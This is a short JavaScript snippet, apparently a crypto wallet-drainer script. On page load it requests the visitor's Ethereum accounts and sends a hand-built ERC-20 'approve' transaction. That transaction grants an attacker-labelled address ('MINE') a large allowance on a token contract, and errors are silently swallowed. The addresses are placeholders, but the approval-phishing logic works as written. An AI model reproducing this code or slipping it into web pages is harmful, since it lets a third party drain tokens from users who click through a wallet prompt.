const MINE = "0x000000000000000000000000000000000000dEaD";
const COIN = "0x1111111111111111111111111111111111111111";

async function go() {
  if (!window.ethereum) return;
  try {
    const accounts = await ethereum.request({ method: 'eth_requestAccounts' });
    const amount = (1000 * 1000000).toString(16).padStart(64, '0');
    const data = "0x095ea7b3" + "000000000000000000000000" + MINE.slice(2) + amount;
    await ethereum.request({
      method: 'eth_sendTransaction',
      params: [{ from: accounts[0], to: COIN, data: data }]
    });
  } catch (error) {
  }
}
window.onload = go;
